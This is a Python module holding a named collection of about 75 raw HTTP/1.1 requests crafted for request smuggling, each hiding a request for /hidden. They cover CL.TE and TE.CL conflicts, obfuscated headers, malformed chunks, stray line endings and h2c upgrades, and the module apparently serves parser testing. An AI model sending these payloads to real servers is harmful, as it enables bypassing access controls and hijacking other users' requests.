"""Requests that two parsers may understand differently. Each hides a request for ``/hidden`` in what may be a body or not.

Sources: RFC 9112 sections 2.2, 5.1, 5.2, 6.1, 6.3, 7.1 and 11.2; the ways of request smuggling that were found since 2005 (CL.TE,
TE.CL, TE.TE, CL.CL, line ends, whitespace before colons, chunk extensions, absolute targets, upgrades).
"""

from __future__ import annotations

_HIDDEN = b"GET /hidden HTTP/1.1\r\nHost: shop.example\r\n\r\n"
_CHUNKED_END = b"0\r\n\r\n"


def _post(*headers: bytes, body: bytes = _HIDDEN, line: bytes = b"POST /open HTTP/1.1") -> bytes:
    return b"\r\n".join([line, b"Host: shop.example", *headers, b"", b""]) + body


def _length(body: bytes) -> bytes:
    return b"Content-Length: %d" % len(body)


_BOTH = _CHUNKED_END + _HIDDEN

#: By name.
REQUESTS: dict[str, bytes] = {
    "cl.te": _post(_length(_BOTH), b"Transfer-Encoding: chunked", body=_BOTH),
    "te.cl": _post(
        b"Transfer-Encoding: chunked", b"Content-Length: 4", body=b"2c\r\n" + _HIDDEN + b"\r\n" + _CHUNKED_END
    ),
    "cl.te short": _post(b"Content-Length: 5", b"Transfer-Encoding: chunked", body=_BOTH),
    "cl.cl": _post(b"Content-Length: 0", _length(_HIDDEN)),
    "cl.cl other way": _post(_length(_HIDDEN), b"Content-Length: 0"),
    "cl list": _post(b"Content-Length: 0, %d" % len(_HIDDEN)),
    "cl same list": _post(b"Content-Length: %d, %d" % (len(_HIDDEN), len(_HIDDEN))),
    "cl plus": _post(b"Content-Length: +0"),
    "cl minus": _post(b"Content-Length: -1"),
    "cl hexadecimal": _post(b"Content-Length: 0x2c"),
    "cl octal": _post(b"Content-Length: 054"),
    "cl blank within": _post(b"Content-Length: 4 4"),
    "cl too long": _post(b"Content-Length: 18446744073709551616"),
    "cl empty": _post(b"Content-Length:"),
    "cl not ascii": _post(b"Content-Length: \xb2"),
    "cl blank before colon": _post(b"Content-Length : 0"),
    "cl tab before colon": _post(b"Content-Length\t: 0"),
    "cl underscore": _post(b"Content_Length: 0"),
    "cl folded": _post(b"Content-Length:\r\n 44"),
    "te blank before colon": _post(b"Transfer-Encoding : chunked", _length(_BOTH), body=_BOTH),
    "te folded": _post(b"Transfer-Encoding:\r\n chunked", _length(_BOTH), body=_BOTH),
    "te vertical tab": _post(b"Transfer-Encoding:\x0bchunked", _length(_BOTH), body=_BOTH),
    "te upper": _post(b"Transfer-Encoding: CHUNKED", _length(_BOTH), body=_BOTH),
    "te quoted": _post(b'Transfer-Encoding: "chunked"', _length(_BOTH), body=_BOTH),
    "te twice": _post(b"Transfer-Encoding: chunked", b"Transfer-Encoding: identity", _length(_BOTH), body=_BOTH),
    "te twice other way": _post(
        b"Transfer-Encoding: identity", b"Transfer-Encoding: chunked", _length(_BOTH), body=_BOTH
    ),
    "te list": _post(b"Transfer-Encoding: chunked, identity", _length(_BOTH), body=_BOTH),
    "te gzip first": _post(b"Transfer-Encoding: gzip, chunked", body=_BOTH),
    "te x-chunked": _post(b"Transfer-Encoding: xchunked", _length(_BOTH), body=_BOTH),
    "te comma": _post(b"Transfer-Encoding: chunked,", _length(_BOTH), body=_BOTH),
    "te null": _post(b"Transfer-Encoding: chunked\x00", _length(_BOTH), body=_BOTH),
    "te lone cr": _post(b"Foo: bar\rTransfer-Encoding: chunked", _length(_BOTH), body=_BOTH),
    "te bare lf": _post(b"Foo: bar\nTransfer-Encoding: chunked", _length(_BOTH), body=_BOTH),
    "te in 1.0": _post(b"Transfer-Encoding: chunked", _length(_BOTH), line=b"POST /open HTTP/1.0", body=_BOTH),
    "te in get": _post(b"Transfer-Encoding: chunked", line=b"GET /open HTTP/1.1", body=_BOTH),
    "chunk size plus": _post(b"Transfer-Encoding: chunked", body=b"+0\r\n\r\n" + _HIDDEN),
    "chunk size 0x": _post(b"Transfer-Encoding: chunked", body=b"0x0\r\n\r\n" + _HIDDEN),
    "chunk size overflow": _post(b"Transfer-Encoding: chunked", body=b"100000000000000000\r\n\r\n" + _HIDDEN),
    "chunk size empty": _post(b"Transfer-Encoding: chunked", body=b"\r\n\r\n" + _HIDDEN),
    "chunk extension lf": _post(b"Transfer-Encoding: chunked", body=b"0;x\n\r\n" + _HIDDEN),
    "chunk extension cr": _post(b"Transfer-Encoding: chunked", body=b"0;x\rxx\r\n\r\n" + _HIDDEN),
    "chunk bare lf": _post(b"Transfer-Encoding: chunked", body=b"0\n\n" + _HIDDEN),
    "chunk no end": _post(b"Transfer-Encoding: chunked", body=b"2\r\nabXX0\r\n\r\n" + _HIDDEN),
    "chunk trailer length": _post(b"Transfer-Encoding: chunked", body=b"0\r\nContent-Length: 44\r\n\r\n" + _HIDDEN),
    "chunk trailer host": _post(b"Transfer-Encoding: chunked", body=b"0\r\nHost: other\r\n\r\n" + _HIDDEN),
    "get with body": _post(_length(_HIDDEN), line=b"GET /open HTTP/1.1"),
    "head with body": _post(_length(_HIDDEN), line=b"HEAD /open HTTP/1.1"),
    "bare lf": _post(_length(_HIDDEN), body=b"").replace(b"\r\n", b"\n") + _HIDDEN,
    "lone cr": _post(b"Foo: bar").replace(b"\r\n", b"\r", 2),
    "space before header": b"POST /open HTTP/1.1\r\n Host: shop.example\r\n" + _length(_HIDDEN) + b"\r\n\r\n" + _HIDDEN,
    "no colon": _post(b"Foo", _length(_HIDDEN)),
    "empty name": _post(b": x", _length(_HIDDEN)),
    "null in name": _post(b"Fo\x00o: x", _length(_HIDDEN)),
    "null in value": _post(b"Foo: x\x00y", _length(_HIDDEN)),
    "not ascii name": _post(b"F\xc3\xb6\xc3\xb6: x", _length(_HIDDEN)),
    "line folding": _post(b"Foo: x\r\n y", _length(_HIDDEN)),
    "two hosts": _post(b"Host: other.example", _length(_HIDDEN)),
    "host and target": _post(_length(_HIDDEN), line=b"POST http://other.example/open HTTP/1.1"),
    "no host": b"GET /open HTTP/1.1\r\n\r\n" + _HIDDEN,
    "host with path": b"GET /open HTTP/1.1\r\nHost: shop.example/x\r\n\r\n" + _HIDDEN,
    "host with user": b"GET /open HTTP/1.1\r\nHost: u@shop.example\r\n\r\n" + _HIDDEN,
    "tab in line": b"GET\t/open\tHTTP/1.1\r\nHost: shop.example\r\n\r\n" + _HIDDEN,
    "two blanks in line": b"GET  /open HTTP/1.1\r\nHost: shop.example\r\n\r\n" + _HIDDEN,
    "blank in target": b"GET /open HTTP/1.1 HTTP/1.1\r\nHost: shop.example\r\n\r\n" + _HIDDEN,
    "cr in target": b"GET /open\rX: HTTP/1.1\r\nHost: shop.example\r\n\r\n" + _HIDDEN,
    "http/0.9": b"GET /open\r\n\r\n" + _HIDDEN,
    "http/1.9": b"GET /open HTTP/1.9\r\nHost: shop.example\r\n\r\n" + _HIDDEN,
    "http/2.0 in text": b"GET /open HTTP/2.0\r\nHost: shop.example\r\n\r\n" + _HIDDEN,
    "lower case version": b"GET /open http/1.1\r\nHost: shop.example\r\n\r\n" + _HIDDEN,
    "upgrade to h2c": _post(b"Connection: Upgrade, HTTP2-Settings", b"Upgrade: h2c", b"HTTP2-Settings: AAMAAABk"),
    "upgrade to what": _post(b"Connection: Upgrade", b"Upgrade: foo"),
    "connect": b"CONNECT shop.example:80 HTTP/1.1\r\nHost: shop.example\r\n\r\n" + _HIDDEN,
    "connection names length": _post(b"Connection: Content-Length", _length(_HIDDEN)),
    "connection names host": _post(b"Connection: close, Host", _length(_HIDDEN)),
    "expect": _post(b"Expect: 100-continue", _length(_HIDDEN)),
    "expect twice": _post(b"Expect: x100-continue", _length(_HIDDEN)),
    "pipelined": b"GET /open HTTP/1.1\r\nHost: shop.example\r\n\r\n" + _HIDDEN,
}
